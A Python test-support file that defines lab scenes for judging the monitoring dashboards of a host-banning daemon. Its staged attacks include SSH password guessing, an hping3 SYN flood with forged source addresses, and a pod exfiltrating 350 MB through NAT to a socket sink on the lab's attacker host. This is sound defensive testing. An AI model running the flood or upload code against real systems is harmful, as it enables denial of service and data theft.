"""Scenes of `make observe SCENE=NAME`: one kind of trouble each, to judge the dashboards by what they show of it."""

import sys
import time
from collections.abc import Callable
from dataclasses import dataclass

from tests.support.attacks import Attacks
from tests.support.edges import UNAPPROVED_PORT, Edges

_SOURCES = 50
_FLOOD_PACKETS_PER_S = 3000
_FLOOD_S = 40
_FEW_BANS = 40
_BYTES = 350_000_000
_SINK = """
import socket, sys
server = socket.create_server((sys.argv[1], int(sys.argv[2])))
link, _ = server.accept()
while link.recv(1 << 20):
    pass
"""
_UPLOAD = """
import socket, sys
with socket.create_connection((sys.argv[1], int(sys.argv[2])), 10) as link:
    for _ in range(int(sys.argv[3]) >> 16):
        link.sendall(bytes(1 << 16))
"""


@dataclass(frozen=True)
class Scene:
    """What happens, what it is, and how the lab differs for it."""

    play: Callable[[Edges], None]
    what: str
    bans: str = ""
    """More settings of the section `bans`, indented by two."""
    trusts_monitor: bool = True


def _quiet(edges: Edges) -> None:
    del edges


def _ssh(edges: Edges) -> None:
    attacks = Attacks(edges)
    for number in range(_SOURCES):
        attacks.guess_passwords(edges.nodes[0])
        if number % 10 == 9:
            time.sleep(2)


def _flood(edges: Edges) -> None:
    count = str(_FLOOD_PACKETS_PER_S * _FLOOD_S)
    pause = f"u{1_000_000 // _FLOOD_PACKETS_PER_S}"
    target = edges.nodes[0].address4
    command = ["hping3", "-q", "-S", "-p", "80", "--rand-source", "-i", pause, "-c", count, target]
    edges.attacker.run(*command, check=False, timeout_s=_FLOOD_S * 3)


def _killed(edges: Edges) -> None:
    edges.daemons[1].stop()


def _monitor_banned(edges: Edges) -> None:
    edges.daemons[0].run("ban", edges.monitor.address4, "--for", "1h", "--reason", "lab")


def _full(edges: Edges) -> None:
    attacks = Attacks(edges)
    for _ in range(_FEW_BANS * 2):
        attacks.guess_passwords(edges.nodes[0])


def _exfiltration(edges: Edges) -> None:
    """Let a host behind the first node send to an unapproved destination through it, as a pod does."""
    node, pod, attacker = edges.nodes[0], edges.client, edges.attacker
    port = str(UNAPPROVED_PORT + 1)
    for setting in ("ip_forward=1", "conf.all.send_redirects=0", "conf.eth0.send_redirects=0"):
        node.run("sysctl", "-qw", f"net.ipv4.{setting}")
    source = "10.88.0.99"
    pod.run("ip", "address", "add", f"{source}/24", "dev", "eth0")
    pod.run("ip", "route", "add", f"{attacker.address4}/32", "via", node.address4, "src", source)
    rule = f"type nat hook postrouting priority srcnat; ip saddr {source} masquerade;"
    node.nft(f"table ip pods {{\n chain out {{\n {rule}\n }}\n}}\n")
    attacker.start(sys.executable, "-c", _SINK, attacker.address4, port)
    time.sleep(1)
    pod.run(sys.executable, "-c", _UPLOAD, attacker.address4, port, str(_BYTES), timeout_s=120)


SCENES = {
    "quiet": Scene(_quiet, "ordinary work only"),
    "ssh": Scene(_ssh, f"{_SOURCES} sources guess passwords of sshd on the first node"),
    "flood": Scene(_flood, f"{_FLOOD_PACKETS_PER_S} SYN packets a second with forged sources for {_FLOOD_S} s"),
    "killed": Scene(_killed, "the daemon of the second node is stopped"),
    "monitor": Scene(
        _monitor_banned,
        "the first node bans the host of Prometheus",
        bans="  protect: {scrapers: none}\n",
        trusts_monitor=False,
    ),
    "full": Scene(
        _full, f"more offenders than there is room for ({_FEW_BANS} bans)", bans=f"  max_bans: {_FEW_BANS}\n"
    ),
    "exfiltration": Scene(_exfiltration, f"a pod behind the first node sends {_BYTES // 1_000_000} MB to a stranger"),
}
